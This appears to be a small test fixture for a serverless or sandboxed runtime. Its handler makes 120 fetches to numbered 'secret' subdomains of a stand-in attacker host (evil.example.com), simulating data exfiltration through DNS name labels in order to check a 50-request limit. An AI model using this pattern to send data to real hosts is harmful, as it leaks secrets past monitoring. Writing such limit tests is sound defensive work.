// Secrets carried out in the labels of names that are looked up: more of them than a call has requests.
// ends: ok, timeout
// requests: 50
export default async function handler(event, context) {
  for (let number = 0; number < 120; number++) await tried(() => fetch(`https://secret-${number}.evil.example.com/`));
  return {};
}
